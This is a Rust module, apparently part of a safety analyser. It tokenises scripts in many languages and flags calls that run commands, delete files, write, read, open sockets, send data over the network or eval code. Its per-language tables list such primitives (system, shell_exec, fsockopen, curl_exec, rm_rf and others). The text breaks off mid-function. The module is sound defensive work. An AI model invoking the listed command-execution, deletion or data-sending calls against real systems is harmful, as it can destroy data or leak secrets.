//! Languages without a parser here, read with a tokenizer: string
//! literals (with the home directory's spellings interpolated), names
//! joined across `.`, `::` and `->`, and calls with or without
//! parentheses. Each language has a table of the calls that run commands,
//! delete, write, read or use the network. Command languages (PowerShell,
//! Tcl, sqlite3 dot-commands, vim ex commands, gdb) are split into words
//! like a shell's; Emacs Lisp into s-expressions.
//!
//! Python and JavaScript come here too when their parser rejects the text.

use std::collections::HashMap;

use crate::{b64, glob, home, join_paths, Facts, Language, Sink, Val};

/// The facts of `code` in `lang`, read with the tokenizer.
pub(crate) fn analyse(lang: Language, code: &str, depth: u8) -> Facts {
    let mut sink = Sink::new(depth);
    match lang {
        Language::PowerShell => powershell(code, &mut sink),
        Language::Tcl => tcl(code, &mut sink, &mut HashMap::new(), 0),
        Language::Sqlite => sqlite(code, &mut sink),
        Language::Vim => vim(code, &mut sink),
        Language::Gdb => gdb(code, &mut sink),
        Language::EmacsLisp => elisp(code, &mut sink),
        Language::AppleScript => applescript(code, &mut sink),
        _ => {
            let toks = lex(lang, code);
            let mut g = Generic {
                nest: std::cell::Cell::new(0),
                lang,
                toks,
                env: HashMap::new(),
                iterable: Val::Unknown,
            };
            g.run(&mut sink);
        }
    }
    sink.finish()
}

// ---------------------------------------------------------------- lexer

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    /// A name (`system`, `FileUtils.rm_rf`, `$x`, `$0`).
    Word(String),
    /// A string literal.
    Str(Val),
    /// A command literal (backticks, `qx{}`, `%x()`, Julia's `` `…` ``).
    Cmd(Val),
    /// Punctuation.
    P(&'static str),
    /// End of a line.
    Nl,
}

const PUNCT2: &[&str] = &[
    "..", "::", "->", "=>", "<-", ">>", "==", "!=", "<=", ">=", "&&", "||", "=~", "+=", ".=",
];
const PUNCT1: &[&str] = &[
    "(", ")", "[", "]", "{", "}", ",", ";", "=", "|", ">", "<", "&", ".", "+", "*", ":", "!", "?",
    "-", "/", "%", "^", "~", "@", "\\",
];

fn lex(lang: Language, code: &str) -> Vec<Tok> {
    let chars: Vec<char> = code.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let line_comment: &[&str] = match lang {
        Language::Lua => &["--"],
        Language::Php | Language::JavaScript => &["//", "#"],
        Language::Sqlite => &["--"],
        _ => &["#"],
    };
    let sigils = matches!(
        lang,
        Language::Perl | Language::Php | Language::Ruby | Language::Awk | Language::Julia
    );
    while i < chars.len() {
        let c = chars[i];
        if c == '\n' {
            out.push(Tok::Nl);
            i += 1;
            continue;
        }
        if c.is_whitespace() {
            i += 1;
            continue;
        }
        let rest: String = chars[i..chars.len().min(i + 3)].iter().collect();
        // `#{` in Ruby strings is handled inside strings; here `#` starts a comment.
        if line_comment.iter().any(|p| rest.starts_with(p))
            && !(lang == Language::Perl && c == '#' && i > 0 && chars[i - 1] == '$')
        {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
            continue;
        }
        if lang == Language::Lua && rest.starts_with("[[") {
            let (text, next) = until(&chars, i + 2, "]]");
            out.push(Tok::Str(Val::Str(text)));
            i = next;
            continue;
        }
        // Perl q//, qq//, qx//; Ruby %x(), %q(), %Q(), %w().
        if lang == Language::Perl
            && (rest.starts_with("qx") || rest.starts_with("qq") || rest.starts_with('q'))
            && !(i > 0
                && chars
                    .get(i - 1)
                    .is_some_and(|p| p.is_alphanumeric() || *p == '_' || *p == '$'))
        {
            let kind: String = if rest.starts_with("qx") || rest.starts_with("qq") {
                rest[..2].to_string()
            } else {
                "q".to_string()
            };
            let open_at = i + kind.len();
            if let Some(&open) = chars.get(open_at) {
                if "({[</|!#".contains(open) {
                    let (text, next) = delimited(&chars, open_at);
                    let val = if kind == "q" {
                        Val::Str(text)
                    } else {
                        interpolate(lang, &text, &HashMap::new())
                    };
                    out.push(if kind == "qx" {
                        Tok::Cmd(val)
                    } else {
                        Tok::Str(val)
                    });
                    i = next;
                    continue;
                }
            }
        }
        if lang == Language::Ruby && c == '%' {
            if let (Some(&k), Some(&open)) = (chars.get(i + 1), chars.get(i + 2)) {
                if "xqQw".contains(k) && "({[<|!".contains(open) {
                    let (text, next) = delimited(&chars, i + 2);
                    let val = if k == 'q' || k == 'w' {
                        Val::Str(text)
                    } else {
                        interpolate(lang, &text, &HashMap::new())
                    };
                    out.push(match k {
                        'x' => Tok::Cmd(val),
                        'w' => Tok::Str(match val {
                            Val::Str(s) => Val::List(
                                s.split_whitespace().map(|w| Val::Str(w.into())).collect(),
                            ),
                            v => v,
                        }),
                        _ => Tok::Str(val),
                    });
                    i = next;
                    continue;
                }
            }
        }
        if c == '"' || c == '\'' || c == '`' {
            let (text, next) = quoted(&chars, i, lang);
            let interp = c != '\''
                && matches!(
                    lang,
                    Language::Perl | Language::Ruby | Language::Php | Language::Julia
                );
            let val = if interp {
                interpolate(lang, &text, &HashMap::new())
            } else {
                Val::Str(text)
            };
            if c == '`'
                && matches!(
                    lang,
                    Language::Perl | Language::Ruby | Language::Php | Language::Julia
                )
            {
                out.push(Tok::Cmd(val));
            } else {
                out.push(Tok::Str(val));
            }
            i = next;
            continue;
        }
        // Perl's `$ENV{HOME}` / `$ENV{'HOME'}`.
        if lang == Language::Perl && rest.starts_with("$EN") {
            let tail: String = chars[i..chars.len().min(i + 14)].iter().collect();
            let form = ["$ENV{HOME}", "$ENV{'HOME'}", "$ENV{\"HOME\"}"]
                .into_iter()
                .find(|f| tail.starts_with(f));
            if let Some(form) = form {
                out.push(Tok::Str(home()));
                i += form.chars().count();
                continue;
            }
        }
        if c.is_alphanumeric()
            || c == '_'
            || (sigils
                && "$@%".contains(c)
                && chars
                    .get(i + 1)
                    .is_some_and(|n| n.is_alphanumeric() || *n == '_' || *n == '{'))
        {
            let start = i;
            i += 1;
            while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                i += 1;
            }
            // Ruby/Julia method names may end in `!` or `?`.
            if matches!(lang, Language::Ruby | Language::Julia)
                && i < chars.len()
                && "!?".contains(chars[i])
                && chars.get(i + 1) != Some(&'=')
            {
                i += 1;
            }
            let word: String = chars[start..i].iter().collect();
            // Join `a.b`, `a::b`, `a->b`, `a:b` (Lua) with no spaces.
            let joined = match (out.len() >= 2, out.last()) {
                (true, Some(Tok::P(sep)))
                    if (*sep == "."
                        || *sep == "::"
                        || *sep == "->"
                        || (*sep == ":" && lang == Language::Lua))
                        && start > 0
                        && !chars[start - 1].is_whitespace() =>
                {
                    match out.get(out.len() - 2) {
                        Some(Tok::Word(p))
                            if !(lang == Language::Perl && *sep == "." && p.starts_with('$')) =>
                        {
                            let joint = if *sep == "::" { "::" } else { "." };
                            Some(format!("{p}{joint}{word}"))
                        }
                        _ => None,
                    }
                }
                _ => None,
            };
            match joined {
                Some(name) => {
                    out.pop();
                    out.pop();
                    out.push(Tok::Word(name));
                }
                None => out.push(Tok::Word(word)),
            }
            continue;
        }
        if c == '$' && chars.get(i + 1).is_some_and(char::is_ascii_digit) {
            let start = i;
            i += 2;
            while i < chars.len() && chars[i].is_ascii_digit() {
                i += 1;
            }
            out.push(Tok::Word(chars[start..i].iter().collect()));
            continue;
        }
        let two: String = chars[i..chars.len().min(i + 2)].iter().collect();
        if let Some(p) = PUNCT2.iter().find(|p| **p == two) {
            out.push(Tok::P(p));
            i += 2;
            continue;
        }
        let one = c.to_string();
        if let Some(p) = PUNCT1.iter().find(|p| **p == one) {
            out.push(Tok::P(p));
        }
        i += 1;
    }
    out
}

/// Text up to `end`, and the index after it.
fn until(chars: &[char], from: usize, end: &str) -> (String, usize) {
    let end: Vec<char> = end.chars().collect();
    let mut i = from;
    while i < chars.len() {
        if chars[i..].starts_with(&end) {
            return (chars[from..i].iter().collect(), i + end.len());
        }
        i += 1;
    }
    (chars[from.min(chars.len())..].iter().collect(), chars.len())
}

/// A bracketed or same-character delimited literal starting at `open`.
fn delimited(chars: &[char], open: usize) -> (String, usize) {
    let o = chars[open];
    let close = match o {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        other => other,
    };
    let mut depth = 1;
    let mut i = open + 1;
    let mut text = String::new();
    while i < chars.len() {
        let c = chars[i];
        if c == '\\' && i + 1 < chars.len() {
            text.push(chars[i + 1]);
            i += 2;
            continue;
        }
        if c == close {
            depth -= 1;
            if depth == 0 {
                return (text, i + 1);
            }
        } else if c == o && o != close {
            depth += 1;
        }
        text.push(c);
        i += 1;
    }
    (text, i)
}

/// A quoted literal starting at `start`, with common escapes resolved.
fn quoted(chars: &[char], start: usize, lang: Language) -> (String, usize) {
    let q = chars[start];
    let mut i = start + 1;
    let mut text = String::new();
    while i < chars.len() {
        let c = chars[i];
        if c == '\\' && (q != '\'' || lang != Language::PowerShell) {
            match chars.get(i + 1) {
                Some('n') if q != '\'' => text.push('\n'),
                Some('t') if q != '\'' => text.push('\t'),
                Some('0') if q != '\'' => text.push('\0'),
                Some(&n) if q == '\'' && n != '\'' && n != '\\' => {
                    text.push('\\');
                    text.push(n);
                }
                Some(&n) => text.push(n),
                None => {}
            }
            i += 2;
            continue;
        }
        if c == q {
            return (text, i + 1);
        }
        text.push(c);
        i += 1;
    }
    (text, i)
}

/// A double-quoted string's value: the home directory's spellings become
/// `~`, known variables their value, any other interpolation makes the
/// whole value unknown.
fn interpolate(lang: Language, text: &str, env: &HashMap<String, Val>) -> Val {
    const HOMES: &[&str] = &[
        "$ENV{HOME}",
        "$ENV{'HOME'}",
        "${HOME}",
        "$HOME",
        "#{Dir.home}",
        "#{ENV['HOME']}",
        "#{ENV[\"HOME\"]}",
        "$(homedir())",
        "$env:HOME",
        "${env:HOME}",
        "$env(HOME)",
        "$::env(HOME)",
        "{$_SERVER['HOME']}",
        "{$_ENV['HOME']}",
    ];
    let mut out = String::new();
    let mut rest = text;
    'outer: while let Some(pos) = rest.find(['$', '#', '@', '{']) {
        out.push_str(&rest[..pos]);
        let tail = &rest[pos..];
        for h in HOMES {
            if let Some(after) = tail.strip_prefix(h) {
                out.push('~');
                rest = after;
                continue 'outer;
            }
        }
        let c = tail.as_bytes()[0];
        let interpolates = match c {
            b'$' => matches!(
                lang,
                Language::Perl
                    | Language::Php
                    | Language::Julia
                    | Language::PowerShell
                    | Language::Tcl
            ),
            b'#' => lang == Language::Ruby && tail.starts_with("#{"),
            b'@' => lang == Language::Perl && tail[1..].starts_with(|c: char| c.is_alphabetic()),
            _ => false,
        };
        if !interpolates {
            out.push(c as char);
            rest = &tail[1..];
            continue;
        }
        // A variable: its known value, or the whole string is unknown.
        let name: String = tail[1..]
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '_')
            .collect();
        if name.is_empty() {
            out.push(c as char);
            rest = &tail[1..];
            continue;
        }
        let key = format!("{}{name}", c as char);
        match env.get(&key).or_else(|| env.get(&name)).and_then(Val::str) {
            Some(v) => {
                out.push_str(v);
                rest = &tail[1 + name.len()..];
            }
            None => return Val::Unknown,
        }
    }
    out.push_str(rest);
    Val::Str(out)
}

// -------------------------------------------------- call-based languages

/// What a call does.
#[derive(Clone, Copy, PartialEq)]
enum Act {
    /// First argument is shell code; with several, they are an argv.
    Shell,
    /// Arguments are an argv.
    Argv,
    /// Delete the first argument.
    Delete,
    /// Delete the first argument and everything under it.
    DeleteTree,
    /// Delete, recursively when a `recursive=TRUE` style flag is given.
    DeleteFlag,
    /// Write the first argument.
    Write,
    /// Write the second argument (copy, rename targets).
    WriteSecond,
    /// Open: the mode decides.
    Open,
    /// Read the first argument.
    Read,
    /// Network use.
    Net,
    /// Network send.
    NetSend,
    /// Socket.
    Socket,
    /// Evaluate code in the same language.
    Eval,
    /// Apply a named function to a list (`array_map("unlink", …)`).
    Map,
}

fn act(lang: Language, name: &str) -> Option<Act> {
    use Act::*;
    let lower = name.to_ascii_lowercase();
    let n = lower.as_str();
    Some(match lang {
        Language::Perl => match n {
            "system" | "exec" | "core::system" => Shell,
            "unlink" => Delete,
            "rmdir" => Delete,
            "rmtree" | "remove_tree" | "file::path::rmtree" | "file::path::remove_tree" => {
                DeleteTree
            }
            "open" | "sysopen" => Open,
            "eval" => Eval,
            "io::socket::inet.new" | "io::socket::ip.new" | "socket" => Socket,
            "lwp::simple::get" | "getstore" | "http::tiny.new.get" => Net,
            "http::tiny.new.post" | "lwp::useragent.new.post" | "post" => NetSend,
            "copy" | "file::copy::copy" | "move" | "rename" => WriteSecond,
            _ => return None,
        },
        Language::Ruby => match n {
            "system" | "exec" | "spawn" | "kernel.system" | "kernel.exec" | "io.popen"
            | "process.spawn" | "open3.capture2" | "open3.capture2e" | "open3.capture3"
            | "open3.popen3" | "open3.popen2" | "pty.spawn" => Shell,
            "fileutils.rm_rf"
            | "fileutils.rm_r"
            | "fileutils.remove_dir"
            | "fileutils.remove_entry"
            | "fileutils.remove_entry_secure"
            | "fileutils.rmtree"
            | "rm_rf"
            | "rm_r" => DeleteTree,
            "fileutils.rm" | "fileutils.rm_f" | "fileutils.remove" | "file.delete"
            | "file.unlink" | "dir.rmdir" | "dir.delete" | "dir.unlink" | "fileutils.rmdir" => {
                Delete
            }
            "file.write" | "io.write" | "file.binwrite" | "fileutils.touch" => Write,
            "file.open" | "file.new" | "io.open" => Open,
            "file.read" | "io.read" | "file.readlines" | "io.readlines" | "file.binread" => Read,
            "fileutils.cp" | "fileutils.mv" | "fileutils.copy" | "fileutils.move"
            | "file.rename" | "fileutils.cp_r" | "fileutils.ln_s" | "file.symlink" => WriteSecond,
            "net::http.post" | "net::http.post_form" | "net::http.start" | "net::http.put" => {
                NetSend
            }
            "net::http.get" | "net::http.get_response" | "uri.open" | "open_uri" => Net,
            "tcpsocket.new" | "tcpsocket.open" | "socket.tcp" => Socket,
            "eval" | "kernel.eval" | "instance_eval" | "binding.eval" => Eval,
            _ => return None,
        },
        Language::Php => match n {
            "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open" => Shell,
            "pcntl_exec" => Argv,
            "unlink" | "rmdir" => Delete,
            "file_put_contents" => Write,
            "fopen" => Open,
            "file_get_contents" | "readfile" | "file" | "fread" => Read,
            "copy" | "rename" | "symlink" | "link" => WriteSecond,
            "fsockopen" | "stream_socket_client" | "socket_create" => Socket,
            "curl_exec" | "mail" => NetSend,
            "eval" | "assert" => Eval,
            "array_map" | "array_walk" => Map,
            _ => return None,
        },
        Language::Lua => match n {
            "os.execute" | "io.popen" => Shell,
            "os.remove" => Delete,
            "os.rename" => WriteSecond,
            "io.open" => Open,
            "io.lines" | "dofile" => Read,
            "load" | "loadstring" => Eval,
            "socket.tcp" | "socket.connect" => Socket,
            _ => return None,
        },
        Language::Awk => match n {
            "system" => Shell,
            _ => return None,
        },
        Language::R => match n {
            "system" | "shell" | "system2" | "processx::run" | "sys::exec_wait" => Shell,
            "unlink" => DeleteFlag,
            "file.remove" => Delete,
            "file.rename" | "file.copy" => WriteSecond,
            "writelines" | "write" | "cat" | "sink" | "saverds" | "save" | "write.csv"
            | "writebin" => Write,
            "readlines" | "readrds" | "source" | "read.csv" => Read,
            "download.file" | "url" | "httr::get" => Net,
            "httr::post" | "httr::put" | "curl::curl_upload" => NetSend,
            "eval" => Eval,
            "socketconnection" => Socket,
            _ => return None,
        },
        Language::Julia => match n {
            "run" | "read" if false => Shell,
            "run" | "success" | "pipeline" => Shell,
            "rm" => DeleteFlag,
            "write" => Write,
            "open" => Open,
            "cp" | "mv" | "symlink" => WriteSecond,
            "download" | "downloads.download" => Net,
            "eval" | "include_string" => Eval,
            "connect" | "sockets.connect" => Socket,
            _ => return None,
        },
        Language::Python | Language::JavaScript => match n {
            "os.system"
            | "os.popen"
            | "subprocess.run"
            | "subprocess.call"
            | "subprocess.popen"
            | "subprocess.check_output"
            | "subprocess.check_call"
            | "execsync"
            | "exec"
            | "system"
            | "spawnsync"
            | "spawn"
            | "execfilesync"
            | "execfile"
            | "popen"
            | "child_process.execsync"
            | "child_process.exec" => Shell,
            "shutil.rmtree" => DeleteTree,
            "os.remove" | "os.unlink" => Delete,
            "eval" => Eval,
            _ => return None,
        },
        _ => return None,
    })
}

/// Calls that may be written without parentheses (`system "…"`).
fn bare_calls(lang: Language) -> bool {
    matches!(lang, Language::Perl | Language::Ruby | Language::Lua)
}

/// How far ahead a statement or bracket is looked for, in tokens, so that
/// long unbroken text costs linear time.
const MAX_SCAN: usize = 512;

struct Generic {
    /// How deep `eval`/`atom` recursion is (bracketed operands).
    nest: std::cell::Cell<u32>,
    lang: Language,
    toks: Vec<Tok>,
    env: HashMap<String, Val>,
    /// The last directory listing or glob met, for block parameters
    /// (`Dir.glob(…).each { |f| … }`).
    iterable: Val,
}

impl Generic {
    fn run(&mut self, sink: &mut Sink) {
        let mut i = 0;
        while i < self.toks.len() {
            i = self.step(i, sink);
        }
    }

    /// Handle the token at `i`; return the next index.
    fn step(&mut self, i: usize, sink: &mut Sink) -> usize {
        let tok = self.toks[i].clone();
        match tok {
            Tok::Cmd(v) => {
                sink.shell(&v);
                i + 1
            }
            Tok::Word(w) => {
                // Assignment: `x = …`, `my $x = …`, `local x = …`, `x <- …`.
                if matches!(self.toks.get(i + 1), Some(Tok::P("=" | "<-" | ":="))) {
                    let end = self.stmt_end(i + 2);
                    let v = self.eval(i + 2, end);
                    if !matches!(v, Val::Unknown) {
                        self.env.insert(w.clone(), v);
                    }
                    return i + 2;
                }
                if self.lang == Language::Ruby && matches!(self.toks.get(i + 1), Some(Tok::P("|")))
                {
                    // `{ |f| … }` block parameter after an iterable.
                    if matches!(self.toks.get(i.wrapping_sub(1)), Some(Tok::P("|"))) {
                        self.env.insert(w, self.iterable.clone());
                        return i + 2;
                    }
                }
                if self.lang == Language::Awk && matches!(w.as_str(), "print" | "printf") {
                    return self.awk_print(i, sink);
                }
                let Some(a) = act(self.lang, &w) else {
                    if self.lang == Language::Awk
                        && matches!(self.toks.get(i + 1), Some(Tok::P("|")))
                    {
                        // `cmd | getline`
                        if matches!(self.toks.get(i + 2), Some(Tok::Word(g)) if g == "getline") {
                            let v = self.value_of_word(&w);
                            self.run_awk_command(&v, sink);
                        }
                    }
                    // Value functions that remember what they list.
                    let end = self.stmt_end(i);
                    let v = self.eval(i, end.min(i + 64));
                    if matches!(v, Val::Under(_)) {
                        self.iterable = v;
                    }
                    return i + 1;
                };
                let (args, next) = self.call_args(i + 1);
                self.apply(a, &w, &args, sink);
                // Arguments may hold calls of their own.
                let _ = next;
                i + 1
            }
            Tok::Str(v) if self.lang == Language::Awk => {
                if matches!(self.toks.get(i + 1), Some(Tok::P("|")))
                    && matches!(self.toks.get(i + 2), Some(Tok::Word(g)) if g == "getline")
                {
                    self.run_awk_command(&v, sink);
                }
                i + 1
            }
            _ => i + 1,
        }
    }

    fn value_of_word(&self, w: &str) -> Val {
        self.env.get(w).cloned().unwrap_or(Val::Unknown)
    }

    /// Where the statement starting at `from` ends (looking at most
    /// [`MAX_SCAN`] tokens ahead).
    fn stmt_end(&self, from: usize) -> usize {
        let mut depth = 0i32;
        let mut i = from;
        let limit = self.toks.len().min(from.saturating_add(MAX_SCAN));
        while i < limit {
            match &self.toks[i] {
                Tok::P("(" | "[" | "{") => depth += 1,
                Tok::P(")" | "]" | "}") => {
                    depth -= 1;
                    if depth < 0 {
                        return i;
                    }
                }
                Tok::P(";") | Tok::Nl if depth <= 0 => return i,
                Tok::Word(w)
                    if depth == 0
                        && matches!(w.as_str(), "if" | "unless" | "or" | "and" | "do" | "then") =>
                {
                    return i
                }
                Tok::P("||" | "&&") if depth == 0 => return i,
                _ => {}
            }
            i += 1;
        }
        i
    }

    /// The arguments of a call whose name ends before `i`.
    fn call_args(&mut self, i: usize) -> (Vec<(Option<String>, Val)>, usize) {
        let (start, end) = match self.toks.get(i) {
            Some(Tok::P("(")) => {
                let close = self.matching(i);
                (i + 1, close)
            }
            _ if bare_calls(self.lang) || self.lang == Language::Php => (i, self.stmt_end(i)),
            _ => return (Vec::new(), i),
        };
        let mut args = Vec::new();
        let mut depth = 0i32;
        let mut piece = start;
        let mut j = start;
        while j <= end {
            let at_end = j == end;
            match self.toks.get(j) {
                Some(Tok::P("(" | "[" | "{")) if !at_end => depth += 1,
                Some(Tok::P(")" | "]" | "}")) if !at_end => depth -= 1,
                _ => {}
            }
            let sep = matches!(self.toks.get(j), Some(Tok::P("," | "=>"))) && depth == 0;
            if at_end || sep {
                if piece < j {
                    // `name = value` / `name: value` keyword arguments.
                    let (key, from) = match (self.toks.get(piece), self.toks.get(piece + 1)) {
                        (Some(Tok::Word(k)), Some(Tok::P("=" | ":"))) => {
                            (Some(k.clone()), piece + 2)
                        }
                        _ => (None, piece),
                    };
                    if matches!(self.toks.get(j), Some(Tok::P("=>"))) {
                        // Perl's fat comma is a comma.
                    }
                    let v = self.eval(from, j);
                    args.push((key, v));
                }
                piece = j + 1;
            }
            if matches!(self.toks.get(j), Some(Tok::P(";"))) && depth == 0 {
                // Julia's `rm(x; recursive=true)`.
                if piece < j {
                    let v = self.eval(piece, j);
                    args.push((None, v));
                }
                piece = j + 1;
            }
            j += 1;
        }
        (args, end)
    }

    fn matching(&self, open: usize) -> usize {
        let mut depth = 0i32;
        let limit = self.toks.len().min(open.saturating_add(MAX_SCAN));
        for j in open..limit {
            match &self.toks[j] {
                Tok::P("(" | "[" | "{") => depth += 1,
                Tok::P(")" | "]" | "}") => {
                    depth -= 1;
                    if depth == 0 {
                        return j;
                    }
                }
                _ => {}
            }
        }
        limit
    }

    /// The value of the tokens `from..to`: a concatenation of known pieces.
    fn eval(&self, from: usize, to: usize) -> Val {
        let to = to.min(self.toks.len());
        if from >= to {
            return Val::Unknown;
        }
        let concat_ops: &[&str] = match self.lang {
            Language::Perl | Language::Php => &["."],
            Language::Lua => &[".."],
            Language::Julia => &["*"],
            _ => &["+"],
        };
        let mut acc: Option<Val> = None;
        let mut i = from;
        let mut list: Vec<Val> = Vec::new();
        while i < to {
            let (v, next) = self.atom(i, to);
            if next <= i {
                return Val::Unknown;
            }
            acc = Some(match acc {
                None => v,
                Some(a) => a.concat(&v),
            });
            i = next;
            if i >= to {
                break;
            }
            match &self.toks[i] {
                Tok::P(op) if concat_ops.contains(op) => i += 1,
                Tok::P(",") => {
                    list.push(acc.take().unwrap_or(Val::Unknown));
                    i += 1;
                }
                _ if self.lang == Language::Awk => {}
                _ => break,
            }
        }
        if !list.is_empty() {
            list.extend(acc);
            return Val::List(list);
        }
        acc.unwrap_or(Val::Unknown)
    }

    /// One operand at `i`: its value and the index after it.
    fn atom(&self, i: usize, to: usize) -> (Val, usize) {
        if self.nest.get() > 32 {
            return (Val::Unknown, to.max(i + 1));
        }
        self.nest.set(self.nest.get() + 1);
        let out = self.atom_inner(i, to);
        self.nest.set(self.nest.get() - 1);
        out
    }

    fn atom_inner(&self, i: usize, to: usize) -> (Val, usize) {
        match &self.toks[i] {
            Tok::Str(v) => (v.clone(), i + 1),
            Tok::Cmd(_) => (Val::Unknown, i + 1),
            Tok::P("(") => {
                let close = self.matching(i).min(to);
                (self.eval(i + 1, close), close + 1)
            }
            Tok::P("[") => {
                let close = self.matching(i).min(to);
                (list_of(self.eval(i + 1, close)), close + 1)
            }
            Tok::P("~") if self.lang == Language::Julia => (Val::Unknown, i + 1),
            Tok::Word(w) => {
                let lower = w.to_ascii_lowercase();
                // `ENV["HOME"]`, `ENVIRON["HOME"]`, `$_SERVER['HOME']`, `Dir[...]`.
                if matches!(self.toks.get(i + 1), Some(Tok::P("[")))
                    && matches!(w.as_str(), "ENV" | "ENVIRON" | "$_SERVER" | "$_ENV" | "Dir")
                {
                    let close = self.matching(i + 1).min(to);
                    let key = self.eval(i + 2, close);
                    let v = if w == "Dir" {
                        glob(&key)
                    } else if key.str() == Some("HOME") {
                        home()
                    } else {
                        Val::Unknown
                    };
                    return (v, close + 1);
                }
                if matches!(lower.as_str(), "dir.home" | "homedir" | "os.homedir")
                    && !matches!(self.toks.get(i + 1), Some(Tok::P("(")))
                {
                    return (home(), i + 1);
                }
                if matches!(w.as_str(), "true" | "TRUE" | "T" | "$true") {
                    return (Val::Bool(true), i + 1);
                }
                if matches!(w.as_str(), "$0") && self.lang == Language::Awk {
                    return (Val::Name("$0".into()), i + 1);
                }
                if let Some(v) = self.env.get(w) {
                    return (v.clone(), i + 1);
                }
                // A call: `f(args)` or, for bare-call languages, `glob "…"`.
                let (args, next) = match self.toks.get(i + 1) {
                    Some(Tok::P("(")) => {
                        let close = self.matching(i + 1).min(to);
                        (self.args_in(i + 2, close), close + 1)
                    }
                    Some(Tok::Str(_)) if bare_calls(self.lang) => {
                        let (v, n) = self.atom(i + 1, to);
                        (vec![v], n)
                    }
                    _ => (Vec::new(), i + 1),
                };
                (value_call(self.lang, &lower, &args), next)
            }
            _ => (Val::Unknown, i + 1),
        }
    }

    fn args_in(&self, from: usize, to: usize) -> Vec<Val> {
        let mut out = Vec::new();
        let mut depth = 0i32;
        let mut piece = from;
        for j in from..=to {
            match self.toks.get(j) {
                Some(Tok::P("(" | "[" | "{")) if j < to => depth += 1,
                Some(Tok::P(")" | "]" | "}")) if j < to => depth -= 1,
                _ => {}
            }
            if j == to || (matches!(self.toks.get(j), Some(Tok::P(","))) && depth == 0) {
                if piece < j {
                    out.push(self.eval(piece, j));
                }
                piece = j + 1;
            }
        }
        out
    }

    fn apply(&mut self, a: Act, name: &str, args: &[(Option<String>, Val)], sink: &mut Sink) {
        let pos: Vec<&Val> = args
            .iter()
            .filter(|(k, _)| k.is_none())
            .map(|(_, v)| v)
            .collect();
        let first = pos.first().copied().cloned().unwrap_or(Val::Unknown);
        let flag = |names: &[&str]| {
            args.iter()
                .any(|(k, v)| k.as_deref().is_some_and(|k| names.contains(&k)) && v.truthy())
                || pos.iter().skip(1).any(|v| matches!(v, Val::Bool(true)))
        };
        match a {
            Act::Shell => {
                if self.lang == Language::Awk && first == Val::Name("$0".into()) {
                    sink.facts.runs_input = true;
                    return;
                }
                let mut words: Vec<Val> = Vec::new();
                for v in &pos {
                    words.extend(v.items());
                }
                let name_l = name.to_ascii_lowercase();
                if name_l == "system2" {
                    sink.argv(&words);
                } else if words.len() > 1
                    && !name_l.contains("popen")
                    && !name_l.starts_with("open3")
                {
                    // Perl/Ruby `system LIST`: an argv (an env hash first is skipped).
                    let words: Vec<Val> = words
                        .into_iter()
                        .filter(|w| !matches!(w, Val::Obj(_)))
                        .collect();
                    sink.argv(&words);
                } else if let Some(Val::Str(s)) = words.first() {
                    sink.shell(&Val::Str(s.clone()));
                } else if let Some(Val::List(l)) = pos.first().map(|v| (*v).clone()) {
                    sink.argv(&l);
                }
            }
            Act::Argv => {
                let mut words = vec![first.clone()];
                if let Some(v) = pos.get(1) {
                    words.extend(v.items());
                }
                sink.argv(&words);
            }
            Act::Delete => {
                for v in &pos {
                    for item in v.items() {
                        sink.delete(&item, false);
                    }
                }
            }
            Act::DeleteTree => {
                for v in &pos {
                    for item in v.items() {
                        sink.delete(&item, true);
                    }
                }
            }
            Act::DeleteFlag => {
                let rec = flag(&["recursive", "force"]);
                sink.delete(&first, rec);
            }
            Act::Write => {
                let target = match (self.lang, name.to_ascii_lowercase().as_str()) {
                    (Language::R, "writelines" | "write" | "saverds" | "save" | "write.csv") => {
                        args.iter()
                            .find(|(k, _)| matches!(k.as_deref(), Some("con" | "file")))
                            .map(|(_, v)| v.clone())
                            .or_else(|| pos.get(1).map(|v| (*v).clone()))
                            .unwrap_or(Val::Unknown)
                    }
                    (Language::R, "cat") => args
                        .iter()
                        .find(|(k, _)| k.as_deref() == Some("file"))
                        .map(|(_, v)| v.clone())
                        .unwrap_or(Val::Unknown),
                    _ => first.clone(),
                };
                let append = flag(&["append"])
                    || pos
                        .iter()
                        .any(|v| matches!(v, Val::Str(s) if s == "FILE_APPEND"))
                    || args.iter().any(|(_, v)| v.str() == Some("FILE_APPEND"));
                sink.write(&target, append);
            }
            Act::WriteSecond => {
                if let Some(t) = pos.get(1) {
                    sink.write(t, false);
                }
            }
            Act::Open => self.open(&pos, sink),
            Act::Read => sink.read(&first),
            Act::Net => sink.url(&first),
            Act::NetSend => {
                sink.url(&first);
                sink.facts.network = true;
                sink.facts.network_send = true;
            }
            Act::Socket => {
                sink.socket = true;
                sink.facts.network = true;
                if self.lang != Language::Lua {
                    sink.dup = true;
                }
            }
            Act::Eval => sink.eval(self.lang, &first),
            Act::Map => {
                // `array_map("unlink", $files)` / `array_walk($files, "unlink")`.
                let (f, list) = match (pos.first(), pos.get(1)) {
                    (Some(Val::Str(f)), Some(l)) => (f.clone(), (*l).clone()),
                    (Some(l), Some(Val::Str(f))) => (f.clone(), (*l).clone()),
                    _ => return,
                };
                if let Some(inner) = act(self.lang, &f) {
                    if matches!(inner, Act::Delete | Act::DeleteTree) {
                        self.apply(inner, &f, &[(None, list)], sink);
                    }
                }
            }
        }
    }

    /// `open(FH, MODE, PATH)`, `open(FH, ">PATH")`, `open(FH, "|cmd")`,
    /// `fopen(PATH, MODE)`, `io.open(PATH, MODE)`, `File.open(PATH, MODE)`.
    fn open(&self, pos: &[&Val], sink: &mut Sink) {
        let strs: Vec<Option<&str>> = pos.iter().map(|v| v.str()).collect();
        if self.lang == Language::Perl {
            // Skip the handle.
            let rest: Vec<&Val> = pos.iter().skip(1).copied().collect();
            match (rest.first().and_then(|v| v.str()), rest.get(1)) {
                (Some(mode), Some(target)) if mode.trim().len() <= 3 => {
                    let mode = mode.trim();
                    if mode.contains('|') {
                        let words: Vec<Val> = rest.iter().skip(1).map(|v| (*v).clone()).collect();
                        if words.len() == 1 {
                            sink.shell(&words[0]);
                        } else {
                            sink.argv(&words);
                        }
                    } else if mode.starts_with(">>") {
                        sink.write(target, true);
                    } else if mode.starts_with('>') || mode.starts_with("+<") {
                        sink.write(target, false);
                    } else {
                        sink.read(target);
                    }
                }
                (Some(spec), None) => {
                    let spec = spec.trim();
